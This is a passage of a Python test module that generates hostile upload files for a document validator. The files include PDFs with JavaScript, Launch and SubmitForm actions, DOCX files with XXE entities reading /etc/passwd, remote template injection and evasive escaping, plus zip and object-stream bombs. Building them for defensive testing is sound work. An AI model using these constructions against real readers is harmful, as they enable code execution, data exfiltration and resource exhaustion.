"""A corpus of hostile, broken and good upload files, generated in memory for the tests.

Nothing here is downloaded or copied: every file is assembled from invented content with
pypdf, python-docx, Pillow, zipfile, zlib and struct. `hostile_corpus()` returns the files the
validator must refuse, each with the reason code (a key of `validation.REASONS`) it must give
and the document kind to offer it under; `good_files()` returns files it must accept.

The whole corpus builds in about a second and no file in it exceeds about a megabyte: the
300 MB of zeros in the zip bomb and the 80 MB in the PDF object-stream bomb are compressed in
1 MB chunks, so they never sit in memory uncompressed.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import lru_cache
from typing import NamedTuple

from docx import Document as WordDocument
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import qn
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.factories import minimal_pdf

OVERIG = "overig"
REGISTRATIE = "registratiedocument"

REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"


class Sample(NamedTuple):
    """One hostile file: the name it is uploaded under, its bytes, the expected refusal."""

    name: str
    data: bytes
    reason: str
    kind: str = OVERIG


class GoodFile(NamedTuple):
    """A file the portal must accept, with the format `validation.check` must recognise."""

    name: str
    data: bytes
    format: str
    kind: str = OVERIG


# --- PDF helpers ---------------------------------------------------------------------------

def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    """A PDF dictionary from keyword arguments: js=... becomes the key /JS, s=... /S, etc."""
    return DictionaryObject({_name("/" + _pdf_key(key)): value for key, value in entries.items()})


def _pdf_key(key: str) -> str:
    special = {"javaScript": "JavaScript", "js": "JS", "aa": "AA", "xfa": "XFA", "ef": "EF",
               "fs": "FS", "uri": "URI"}
    return special.get(key, key[:1].upper() + key[1:])


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(20), FloatObject(20), FloatObject(120), FloatObject(40)])


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_with(change: Callable[[PdfWriter, DictionaryObject], None]) -> bytes:
    """A one-page PDF made with pypdf, changed by the callback before writing."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    change(writer, page)
    return _written(writer)


def _annotate(writer: PdfWriter, page: DictionaryObject, annotation: DictionaryObject) -> None:
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _link(action: DictionaryObject) -> DictionaryObject:
    return _dict(type=_name("/Annot"), subtype=_name("/Link"), rect=_rect(), a=action)


def _js_action(script: str = "app.alert('hallo');") -> DictionaryObject:
    return _dict(s=_name("/JavaScript"), js=TextStringObject(script))


def _open_action_js(writer: PdfWriter, page: DictionaryObject) -> None:
    writer._root_object[_name("/OpenAction")] = writer._add_object(_js_action())


def _names_js(writer: PdfWriter, page: DictionaryObject) -> None:
    tree = _dict(names=ArrayObject([TextStringObject("afdrukken"), writer._add_object(
        _js_action("this.print({bUI: false});"))]))
    writer._root_object[_name("/Names")] = _dict(javaScript=writer._add_object(tree))


def _launch_link(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _link(_dict(s=_name("/Launch"),
                                        f=TextStringObject("C:\\Windows\\System32\\cmd.exe"))))


def _launch_open(writer: PdfWriter, page: DictionaryObject) -> None:
    writer._root_object[_name("/OpenAction")] = _dict(
        s=_name("/Launch"), win=_dict(f=TextStringObject("calc.exe")))


def _page_aa(writer: PdfWriter, page: DictionaryObject) -> None:
    page[_name("/AA")] = _dict(o=_js_action())


def _link_js(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _link(_js_action()))


def _attachment(writer: PdfWriter, page: DictionaryObject) -> None:
    writer.add_attachment("factuur.exe", b"MZ\x90\x00 verzonnen programma")


def _file_annotation(writer: PdfWriter, page: DictionaryObject) -> None:
    embedded = DecodedStreamObject()
    embedded.set_data(b"een ingesloten bestand")
    embedded[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(type=_name("/Filespec"), f=TextStringObject("notitie.txt"),
                 ef=_dict(f=writer._add_object(embedded)))
    _annotate(writer, page, _dict(type=_name("/Annot"), subtype=_name("/FileAttachment"),
                                  rect=_rect(), fs=writer._add_object(spec)))


def _rich_media(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _dict(type=_name("/Annot"), subtype=_name("/RichMedia"),
                                  rect=_rect()))


def _xfa(writer: PdfWriter, page: DictionaryObject) -> None:
    template = DecodedStreamObject()
    template.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    writer._root_object[_name("/AcroForm")] = _dict(fields=ArrayObject(),
                                                     xfa=writer._add_object(template))


def _submit_form(writer: PdfWriter, page: DictionaryObject) -> None:
    target = _dict(fs=_name("/URL"), f=TextStringObject("https://verzamelaar.invalid/post"))
    _annotate(writer, page, _link(_dict(s=_name("/SubmitForm"), f=target,
                                        flags=NumberObject(4))))


def _import_data(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _link(_dict(s=_name("/ImportData"),
                                        f=TextStringObject("gegevens.fdf"))))


def _uri_link(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _link(_dict(s=_name("/URI"),
                                        uri=TextStringObject("https://www.nijmegen.nl/"))))


def _next_chain(writer: PdfWriter, page: DictionaryObject) -> None:
    """A harmless-looking /URI link whose /Next action runs JavaScript."""
    action = _dict(s=_name("/URI"), uri=TextStringObject("https://www.nijmegen.nl/"),
                   next=_js_action())
    _annotate(writer, page, _link(action))


def _link_to(action: DictionaryObject) -> Callable[[PdfWriter, DictionaryObject], None]:
    """A change that puts a link with this action on the page."""
    return lambda writer, page: _annotate(writer, page, _link(action))


def _open_with(action) -> Callable[[PdfWriter, DictionaryObject], None]:
    """A change that makes this action (or destination) the document's OpenAction."""
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        writer._root_object[_name("/OpenAction")] = action(writer, page) \
            if callable(action) else action
    return change


def _go_to_remote() -> DictionaryObject:
    return _dict(s=_name("/GoToR"), f=TextStringObject("\\\\fileserver\\gedeeld\\lijst.pdf"),
                 d=ArrayObject([NumberObject(0), _name("/Fit")]))


def _rendition() -> DictionaryObject:
    return _dict(s=_name("/Rendition"), oP=NumberObject(0),
                 r=_dict(type=_name("/Rendition"), s=_name("/MR")))


def _sound() -> DictionaryObject:
    sound = DecodedStreamObject()
    sound.set_data(bytes(64))
    sound[_name("/R")] = NumberObject(8000)
    return _dict(s=_name("/Sound"), sound=sound)


def _screen(writer: PdfWriter, page: DictionaryObject) -> None:
    _annotate(writer, page, _dict(type=_name("/Annot"), subtype=_name("/Screen"), rect=_rect(),
                                  a=_rendition()))


def _catalog_aa_js(writer: PdfWriter, page: DictionaryObject) -> None:
    """A script that runs when the document is closed (/WC), from the catalog's /AA."""
    writer._root_object[_name("/AA")] = _dict(wC=_js_action("app.launchURL('x');"))


def _form_field(writer: PdfWriter, page: DictionaryObject, **entries) -> None:
    """One widget field on the page and in the AcroForm, with extra entries (/AA, /A)."""
    field = _dict(type=_name("/Annot"), subtype=_name("/Widget"), fT=_name("/Btn"),
                  t=TextStringObject("verstuur"), rect=_rect(), **entries)
    reference = writer._add_object(field)
    page[_name("/Annots")] = ArrayObject([reference])
    writer._root_object[_name("/AcroForm")] = _dict(fields=ArrayObject([reference]))


def _field_js(writer: PdfWriter, page: DictionaryObject) -> None:
    _form_field(writer, page, aa=_dict(k=_js_action("event.value = 1;")))


def _field_submit(writer: PdfWriter, page: DictionaryObject) -> None:
    _form_field(writer, page, a=_dict(s=_name("/SubmitForm"),
                                      f=_dict(fS=_name("/URL"),
                                              f=TextStringObject("http://verzamel.invalid/"))))


def _go_to_embedded() -> DictionaryObject:
    return _dict(s=_name("/GoToE"), t=_dict(r=_name("/C"), n=TextStringObject("bijlage.pdf")),
                 d=ArrayObject([NumberObject(0), _name("/Fit")]))


def _thread_elsewhere() -> DictionaryObject:
    return _dict(s=_name("/Thread"), f=TextStringObject("ander.pdf"), d=NumberObject(0))


def _uri(target: str) -> DictionaryObject:
    return _dict(s=_name("/URI"), uri=TextStringObject(target))


def _encrypted(user_password: str, algorithm: str = "RC4-128") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password=user_password, owner_password="eigenaar-geheim",
                   algorithm=algorithm)
    return _written(writer)


def _text_page_pdf(words: str) -> bytes:
    """A page with real text in it (Helvetica), written by pypdf."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=200)
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 12 Tf 20 100 Td (" + words.encode("latin-1") + b") Tj ET")
    font = _dict(type=_name("/Font"), subtype=_name("/Type1"), baseFont=_name("/Helvetica"))
    page[_name("/Resources")] = _dict(font=_dict(f1=writer._add_object(font)))
    page[_name("/Contents")] = writer._add_object(content)
    return _written(writer)


def encrypted_with_empty_password(words: str = "Versleuteld maar leesbaar") -> bytes:
    """Owner restrictions only: anyone opens it without a password (many producers do this)."""
    writer = PdfWriter(clone_from=io.BytesIO(_text_page_pdf(words)))
    writer.encrypt(user_password="", owner_password="eigenaar-geheim", algorithm="AES-256")
    return _written(writer)


def _navigation(writer: PdfWriter, page: DictionaryObject) -> None:
    """What LibreOffice and hyperref write: an OpenAction to page 1 with a zoom, a page /AA
    that goes to the page, a NextPage named action, mailto and https links, and an outline."""
    page_ref = writer.pages[0].indirect_reference
    writer._root_object[_name("/OpenAction")] = ArrayObject([page_ref, _name("/XYZ"),
                                                             NumberObject(0), NumberObject(200),
                                                             NumberObject(0)])
    page[_name("/AA")] = _dict(o=_dict(s=_name("/GoTo"), d=ArrayObject([page_ref,
                                                                        _name("/Fit")])))
    links = [_link(_dict(s=_name("/Named"), n=_name("/NextPage"))),
             _link(_uri("mailto:stapteam@nijmegen.invalid")),
             _link(_uri("https://www.nijmegen.nl/")),
             _link(_dict(s=_name("/GoTo"), d=ArrayObject([page_ref, _name("/Fit")]),
                         next=_dict(s=_name("/Named"), n=_name("/FirstPage"))))]
    page[_name("/Annots")] = ArrayObject([writer._add_object(link) for link in links])
    writer.add_outline_item(title="Inleiding", page_number=0)


def _open_action_goto(writer: PdfWriter, page: DictionaryObject) -> None:
    writer._root_object[_name("/OpenAction")] = _dict(
        s=_name("/GoTo"), d=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]))


def _plain_form(writer: PdfWriter, page: DictionaryObject) -> None:
    """An AcroForm text field without any action."""
    field = _dict(type=_name("/Annot"), subtype=_name("/Widget"), fT=_name("/Tx"),
                  t=TextStringObject("naam"), v=TextStringObject("Roos"), rect=_rect())
    reference = writer._add_object(field)
    page[_name("/Annots")] = ArrayObject([reference])
    writer._root_object[_name("/AcroForm")] = _dict(fields=ArrayObject([reference]))


def _no_pages() -> bytes:
    return _written(PdfWriter())


def _stream_object(entries: bytes, data: bytes) -> bytes:
    return (b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data
            + b"\nendstream")


def _classic_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF written by hand: the given objects, a classic xref table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[number] if number in offsets
                else b"0000000000 65535 f \n")
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root,
                                                                                   start)
    return bytes(out)


def _page_objects(page_extra: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b">>",
    }


def _escaped_names() -> bytes:
    """/JavaScript and /JS spelled with #-escapes, so a byte search would not find them."""
    objects = _page_objects(b"/Annots [4 0 R] ")
    objects[4] = (b"<< /Type /Annot /Subtype /Link /Rect [20 20 120 40] "
                  b"/A << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>")
    return _classic_pdf(objects)


def _cyclic_pages() -> bytes:
    """The page tree lists itself as its own kid."""
    objects = _page_objects()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    return _classic_pdf(objects)


def _object_stream_pdf(hidden: dict[int, bytes], visible: dict[int, bytes], root: int,
                       padding: int = 0) -> bytes:
    """A PDF 1.5 with `hidden` objects inside one compressed object stream and an xref stream.

    `padding` adds that many zero bytes after the objects inside the stream (compressed).
    """
    numbers = sorted(hidden)
    bodies, offsets, position = [], [], 0
    for number in numbers:
        offsets.append(b"%d %d" % (number, position))
        bodies.append(hidden[number] + b"\n")
        position += len(bodies[-1])
    index = b" ".join(offsets) + b"\n"
    raw = index + b"".join(bodies)
    compressor = zlib.compressobj(9)
    packed = compressor.compress(raw)
    zeros = bytes(1 << 20)
    for _ in range(padding // len(zeros)):
        packed += compressor.compress(zeros)
    packed += compressor.compress(bytes(padding % len(zeros))) + compressor.flush()
    stream_number = max([*hidden, *visible]) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    located: dict[int, tuple[int, int, int]] = {}
    for number in sorted(visible):
        located[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + visible[number] + b"\nendobj\n"
    located[stream_number] = (1, len(out), 0)
    out += b"%d 0 obj\n" % stream_number + _stream_object(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(numbers), len(index)),
        packed) + b"\nendobj\n"
    for position, number in enumerate(numbers):
        located[number] = (2, stream_number, position)
    located[xref_number] = (1, len(out), 0)
    rows = b"".join(struct.pack(">BIH", *located.get(n, (0, 0, 0)))
                    for n in range(xref_number + 1))
    out += b"%d 0 obj\n" % xref_number + _stream_object(
        b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode"
        % (xref_number + 1, root), zlib.compress(rows)) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % located[xref_number][1]
    return bytes(out)


def _js_in_object_stream() -> bytes:
    """Catalog, JavaScript name tree and action all compressed inside an object stream."""
    hidden = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        4: b"<< /Names [(begin) 5 0 R] >>",
        5: b"<< /S /JavaScript /JS (app.launchURL\\('https://kwaad.invalid/'\\);) >>",
    }
    visible = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}
    return _object_stream_pdf(hidden, visible, root=1)


def _object_stream_bomb() -> bytes:
    """An object stream that inflates to 80 MB (pypdf stops at 75 MB with its own error)."""
    hidden = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    visible = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}
    return _object_stream_pdf(hidden, visible, root=1, padding=80 * 1024 * 1024)


def good_link_pdf() -> bytes:
    return _pdf_with(_uri_link)


# --- DOCX helpers --------------------------------------------------------------------------

def _saved(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@lru_cache(maxsize=1)
def base_docx() -> bytes:
    """A real Word document made with python-docx."""
    document = WordDocument()
    document.add_heading("Verslag huisbezoek", level=1)
    document.add_paragraph("Mevrouw gaf aan dat het goed gaat met de nieuwe woning.")
    return _saved(document)


def good_hyperlink_docx() -> bytes:
    """A document with a clickable link: an external relationship of type hyperlink."""
    document = WordDocument()
    paragraph = document.add_paragraph("Zie ook ")
    rel_id = document.part.relate_to("https://www.nijmegen.nl/zorg", RT.HYPERLINK,
                                     is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "de website van de gemeente"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    return _saved(document)


def good_picture_docx() -> bytes:
    """A document with an ordinary inline picture (an internal image relationship)."""
    document = WordDocument()
    document.add_paragraph("Foto van de voordeur:")
    document.add_picture(io.BytesIO(png_image()))
    return _saved(document)


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _zip(members: dict[str, bytes] | list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in items:
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx_variant(*, replace: dict[str, bytes] | None = None,
                  add: dict[str, bytes] | None = None) -> bytes:
    """The base document with some parts replaced and some added."""
    members = _members(base_docx())
    members.update(replace or {})
    members.update(add or {})
    return _zip(members)


def _with_relationship(rels: bytes, relationship: str) -> bytes:
    return rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def _document_rels_plus(relationship: str, add: dict[str, bytes] | None = None) -> bytes:
    rels = _members(base_docx())[DOCUMENT_RELS]
    return _docx_variant(replace={DOCUMENT_RELS: _with_relationship(rels, relationship)},
                         add=add)


def _with_doctype(xml: bytes) -> bytes:
    """Insert an external-entity DOCTYPE right after the XML declaration."""
    declaration_end = xml.index(b"?>") + 2
    doctype = (b'\n<!DOCTYPE lijst [<!ENTITY geheim SYSTEM "file:///etc/passwd">]>')
    return xml[:declaration_end] + doctype + xml[declaration_end:]


def _doctype_in(part: str) -> bytes:
    return _docx_variant(replace={part: _with_doctype(_members(base_docx())[part])})


def _macro_content_types() -> bytes:
    types = _members(base_docx())[CONTENT_TYPES].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    return _docx_variant(replace={CONTENT_TYPES: types})


def _external_template() -> bytes:
    """A remote template (template injection): Word fetches it when the file is opened."""
    document = WordDocument(io.BytesIO(base_docx()))
    settings = document.part._settings_part
    rel_id = settings.relate_to("https://sjablonen.invalid/normaal.dotm",
                                     f"{REL_NS}/attachedTemplate", is_external=True)
    template = OxmlElement("w:attachedTemplate")
    template.set(qn("r:id"), rel_id)
    settings.element.append(template)
    return _saved(document)


def _external_template_single_quotes() -> bytes:
    """The remote template again, written with single quotes and spaces around '='."""
    rel = ("<Relationship Id = 'rIdX' Type = '" + REL_NS + "/attachedTemplate' "
           "Target = 'https://sjablonen.invalid/n.dotm' TargetMode = 'External'/>")
    members = _members(base_docx())
    members[DOCUMENT_RELS] = _with_relationship(members[DOCUMENT_RELS], rel)
    return _zip(members)


def _doctype_in_renamed_part() -> bytes:
    """An XML part with an entity, under a name that does not end in .xml."""
    members = _members(base_docx())
    members["word/extra.part"] = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                                  b'"file:///etc/passwd">]><d>&x;</d>')
    return _zip(members)


def _external_image() -> bytes:
    document = WordDocument(io.BytesIO(base_docx()))
    document.part.relate_to("http://plaatjes.invalid/volg-mij.png", RT.IMAGE, is_external=True)
    return _saved(document)


def _relationship(rel_id: str, rel_type: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rel_id}" Type="{REL_NS}/{rel_type}" Target="{target}"'
            f"{mode}/>")


def _zip_bomb() -> bytes:
    """A real document plus one member of 300 MB of zeros, written in 1 MB chunks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in _members(base_docx()).items():
            archive.writestr(name, content)
        with archive.open("word/media/achtergrond.dat", "w", force_zip64=True) as member:
            zeros = bytes(1 << 20)
            for _ in range(300):
                member.write(zeros)
    return buffer.getvalue()


def _many_entries() -> bytes:
    members = list(_members(base_docx()).items())
    members += [(f"customXml/deel{number}.xml", b"<a/>") for number in range(2001)]
    return _zip(members)


def _truncated_central_directory() -> bytes:
    data = base_docx()
    directory = data.rfind(b"PK\x01\x02")
    return data[:directory + 20]


def _patch_member_headers(data: bytes, member: str, field: str, change) -> bytes:
    """Rewrite a 16-bit field ('flags' or 'method') of one member in the local header and
    in the central directory."""
    out = bytearray(data)
    layouts = {b"PK\x03\x04": (26, 30, {"flags": 6, "method": 8}),
               b"PK\x01\x02": (28, 46, {"flags": 8, "method": 10})}
    for signature, (name_length_at, name_at, fields) in layouts.items():
        position = out.find(signature)
        while position != -1:
            (length,) = struct.unpack_from("<H", out, position + name_length_at)
            if out[position + name_at:position + name_at + length] == member.encode():
                offset = position + fields[field]
                (value,) = struct.unpack_from("<H", out, offset)
                struct.pack_into("<H", out, offset, change(value))
            position = out.find(signature, position + 4)
    return bytes(out)


def _encrypted_member() -> bytes:
    """Set the 'encrypted' flag on word/document.xml; zipfile then wants a password."""
    return _patch_member_headers(base_docx(), "word/document.xml", "flags",
                                 lambda flags: flags | 0x1)


def _garbled_lzma() -> bytes:
    """word/document.xml marked as LZMA-compressed (method 14) with invalid LZMA properties.

    The member is written stored: a 4-byte LZMA header announcing 5 property bytes, then
    0xFF properties (an impossible lc/lp/pb value) and some filler.
    """
    members = _members(base_docx())
    members["word/document.xml"] = b"\x09\x14\x05\x00" + b"\xff" * 5 + bytes(64)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content, compress_type=zipfile.ZIP_STORED
                             if name == "word/document.xml" else zipfile.ZIP_DEFLATED)
    data = buffer.getvalue()
    return _patch_member_headers(data, "word/document.xml", "method",
                                 lambda method: zipfile.ZIP_LZMA)


def _utf16(xml: bytes) -> bytes:
    text = xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return text.encode("utf-16")


def _utf16_doctype() -> bytes:
    """The DOCTYPE of `_doctype_in`, but the part is encoded as UTF-16 (allowed by OPC)."""
    document = _with_doctype(_members(base_docx())["word/document.xml"])
    return _docx_variant(replace={"word/document.xml": _utf16(document)})


def _utf16_external_template() -> bytes:
    members = _members(_external_template())
    members[SETTINGS_RELS] = _utf16(members[SETTINGS_RELS])
    return _zip(members)


def _template_across_read_blocks() -> bytes:
    """A long external template relationship that straddles the validator's 64 KiB blocks.

    Whitespace between elements is ordinary XML; it pushes the relationship so that it
    starts 400 bytes before the 65,536th byte (further back than the 256 bytes the scanner
    carries over between blocks) and ends after it.
    """
    members = _members(_external_template())
    rels = members[SETTINGS_RELS]
    start = rels.index(b"<Relationship ")
    long_target = "https://sjablonen.invalid/" + "huisstijl/" * 40 + "normaal.dotm"
    rels = rels.replace(b"https://sjablonen.invalid/normaal.dotm", long_target.encode())
    members[SETTINGS_RELS] = rels[:start] + b" " * (65536 - 400 - start) + rels[start:]
    return _zip(members)


def _package_in_media() -> bytes:
    """An embedded workbook shown as an OLE object, its package stored outside embeddings/.

    Word opens such an object in Excel on a double click; the part is what Word itself
    writes under word/embeddings/, only moved to word/media/.
    """
    members = _members(base_docx())
    workbook = _zip({CONTENT_TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    members["word/media/blad1.xlsx"] = workbook
    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(b"</Types>", (
        b'<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sheet"/></Types>'))
    members[DOCUMENT_RELS] = _with_relationship(
        members[DOCUMENT_RELS], _relationship("rId90", "package", "media/blad1.xlsx"))
    members["word/document.xml"] = members["word/document.xml"].replace(b"<w:sectPr", (
        b'<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" '
        b'DrawAspect="Icon" ObjectID="_1" r:id="rId90"/></w:object></w:r></w:p><w:sectPr'), 1)
    return _zip(members)


# --- Word field helpers ---------------------------------------------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _runs_field(*pieces: str, result: str = "1") -> str:
    """A complex field whose instruction is split over several w:instrText runs."""
    instructions = "".join(f'<w:r><w:instrText xml:space="preserve">{escape_xml(piece)}'
                           "</w:instrText></w:r>" for piece in pieces)
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instructions +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f"<w:r><w:t>{result}</w:t></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _simple_field(instruction: str, result: str = "1") -> str:
    return (f'<w:fldSimple w:instr="{escape_xml(instruction, quote=True)}"><w:r><w:t>{result}'
            "</w:t></w:r></w:fldSimple>")


def escape_xml(text: str, quote: bool = False) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text.replace('"', "&quot;") if quote else text


def _paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def _docx_with_body(*paragraphs: str) -> bytes:
    """The base document with these raw paragraphs added before its section properties."""
    members = _members(base_docx())
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:sectPr", "".join(paragraphs).encode() + b"<w:sectPr", 1)
    return _zip(members)


def _docx_with_header(inner: str) -> bytes:
    """A python-docx document with a header, the raw paragraph content put in that header."""
    document = WordDocument()
    document.add_paragraph("Brief met briefhoofd.")
    header = document.sections[0].header
    header.paragraphs[0].text = "Stapteam Nijmegen"
    header._element.append(parse_xml(f'<w:p xmlns:w="{W_NS}">{inner}</w:p>'))
    return _saved(document)


def _docx_with_comment(inner: str) -> bytes:
    """A python-docx document with a comment whose paragraph holds the raw content."""
    document = WordDocument()
    paragraph = document.add_paragraph("Zie de opmerking.")
    comment = document.add_comment(paragraph.runs, text="Opmerking", author="Casemanager")
    comment._element.append(parse_xml(f'<w:p xmlns:w="{W_NS}">{inner}</w:p>'))
    return _saved(document)


FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"


def docx_with_footnote(inner: str) -> bytes:
    """The base document with a footnotes part (as Word writes it) holding this content."""
    members = _members(base_docx())
    members["word/footnotes.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W_NS}">'
        f'<w:footnote w:id="1"><w:p><w:r><w:t>Voetnoot </w:t></w:r>{inner}</w:p></w:footnote>'
        "</w:footnotes>").encode()
    members[DOCUMENT_RELS] = _with_relationship(
        members[DOCUMENT_RELS], _relationship("rId80", "footnotes", "footnotes.xml"))
    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(b"</Types>", (
        f'<Override PartName="/word/footnotes.xml" ContentType="{FOOTNOTES_TYPE}"/>'
        "</Types>").encode())
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:sectPr", b'<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p><w:sectPr', 1)
    return _zip(members)


def _hyperlink_to(target: str) -> bytes:
    """A clickable link whose external relationship points at this target."""
    document = WordDocument()
    paragraph = document.add_paragraph("Klik ")
    rel_id = document.part.relate_to(target, RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "hier"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    return _saved(document)


def _alt_chunk() -> bytes:
    """An imported HTML chunk: Word converts and inserts it when the document is opened."""
    members = _members(base_docx())
    members["word/afchunk.htm"] = b"<html><body><img src='file://server/x.png'></body></html>"
    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(
        b"</Types>", b'<Default Extension="htm" ContentType="text/html"/></Types>')
    members[DOCUMENT_RELS] = _with_relationship(
        members[DOCUMENT_RELS], _relationship("rId70", "aFChunk", "afchunk.htm"))
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rId70"/><w:sectPr', 1)
    return _zip(members)


def _alt_chunk_element_only() -> bytes:
    """The altChunk element without its relationship type (under another name)."""
    return _docx_with_body('<w:altChunk r:id="rId1"/>')


def _broken_main_part() -> bytes:
    members = _members(base_docx())
    members["word/document.xml"] = members["word/document.xml"].replace(b"</w:body>", b"", 1)
    return _zip(members)


def _empty_main_part() -> bytes:
    return _docx_variant(replace={"word/document.xml": b""})


def docx_with_printer_settings() -> bytes:
    """What Word writes after printing: a binary DEVMODE in word/printerSettings/."""
    members = _members(base_docx())
    devmode = "Kantoorprinter 3e verdieping".encode("utf-16-le").ljust(64, b"\x00")
    members["word/printerSettings/printerSettings1.bin"] = devmode + bytes(156)
    members[CONTENT_TYPES] = members[CONTENT_TYPES].replace(b"</Types>", (
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.printerSettings"/></Types>'))
    members[DOCUMENT_RELS] = _with_relationship(members[DOCUMENT_RELS], _relationship(
        "rId60", "printerSettings", "printerSettings/printerSettings1.bin"))
    return _zip(members)


def docx_with_ordinary_fields() -> bytes:
    """PAGE, NUMPAGES, DATE, TOC, REF, MERGEFIELD and web/e-mail HYPERLINK fields."""
    return _docx_with_body(
